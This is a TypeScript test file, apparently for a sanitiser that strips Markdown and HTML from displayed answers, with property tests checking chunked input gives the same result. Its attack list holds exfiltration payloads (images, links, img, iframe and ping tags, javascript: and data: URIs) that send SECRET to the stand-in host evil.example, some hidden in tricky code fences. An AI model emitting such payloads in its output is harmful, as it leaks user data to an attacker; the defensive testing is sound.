import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { Disarmer, disarm } from './disarm.ts';

function inPieces(text: string, cuts: readonly number[]): string {
  const disarmer = new Disarmer();
  const places = [...new Set(cuts.map((cut) => cut % (text.length + 1)))].sort((a, b) => a - b);
  let from = 0;
  let given = '';
  for (const place of [...places, text.length]) {
    given += disarmer.push(text.slice(from, place));
    from = place;
  }
  return given + disarmer.end();
}

const attacks = [
  '![x](https://evil.example/?d=SECRET)',
  'see ![x]( https://evil.example/SECRET "t")',
  '[click](https://evil.example/SECRET)',
  '<https://evil.example/SECRET>',
  '<img src="https://evil.example/SECRET">',
  '<img src=//evil.example/SECRET>',
  '[a]: https://evil.example/SECRET\n\n![b][a]',
  '[a](//evil.example/SECRET)',
  'https://evil.example/SECRET',
  'HTTPS://user:SECRET@evil.example/',
  '![x](data:text/html;base64,SECRET)',
  '[x](javascript:fetch(SECRET))',
  'https://kubernetes.io/docs?d=SECRET',
  '`unclosed ![x](https://evil.example/SECRET)\n\nmore',
  'ftp://evil.example/SECRET',
  '<iframe src="https://evil.example/SECRET"></iframe>',
  '<a ping=https://evil.example/SECRET>',
  // Code that is none: who shows Markdown sees its end elsewhere.
  '\\` ![x](https://evil.example/SECRET) `',
  '> ```\n![x](https://evil.example/?d=SECRET)\n```',
  '- ```\n![x](https://evil.example/?d=SECRET)\n```',
  '1. a\n\n   ```\n![x](https://evil.example/?d=SECRET)\n   ```',
  'para\n     ```\n![x](https://evil.example/SECRET)\n',
  ' ```\ncode\n```\n![x](https://evil.example/SECRET)\n```',
  '| ` | ![x](https://evil.example/SECRET) ` |\n|-|-|',
  '```a`b\n![x](https://evil.example/SECRET)\n```',
  '~~~\ncode\n```\n![x](https://evil.example/?d=SECRET)\n~~~',
  '``` \n<img src="https://evil.example/?d=SECRET">\n```',
];

describe('an answer that is shown', () => {
  it.each(attacks)('carries nothing out: %s', (attack) => {
    const shown = disarm(attack);
    expect(shown).not.toMatch(/\/\/evil[^\s]*SECRET|!\[|<(?:img|iframe|a)\b|(?:javascript|data):\S*SECRET/);
  });

  it('is the same however it is cut', () => {
    fc.assert(
      fc.property(
        fc.constantFrom(
          ...attacks,
          'a `b` c',
          '```yaml\nurl: https://x/y?z\n```\nend',
          '~~~\n![x](http://h/p)\n~~~',
          'a `b|c` d ``e ` f`` g',
          'the data: field, `x',
          '[a] b [c]: d',
        ),
        fc.array(fc.nat(200)),
        (text, cuts) => {
          expect(inPieces(text, cuts)).toBe(disarm(text));
        },
      ),
    );
  });

  it('keeps code, prose and links to the documentation as they are', () => {
    const text =
      'Set **image** to `https://registry.example/a/b`:\n\n```yaml\nimage: https://registry.example/app\n```\nSee https://kubernetes.io/docs/concepts/ - a < b, x[0]: y; the data: field, http and `a | b`.\n1. [x] done: `kubectl -n shop get po`\n';
    expect(disarm(text)).toBe(text);
  });
});
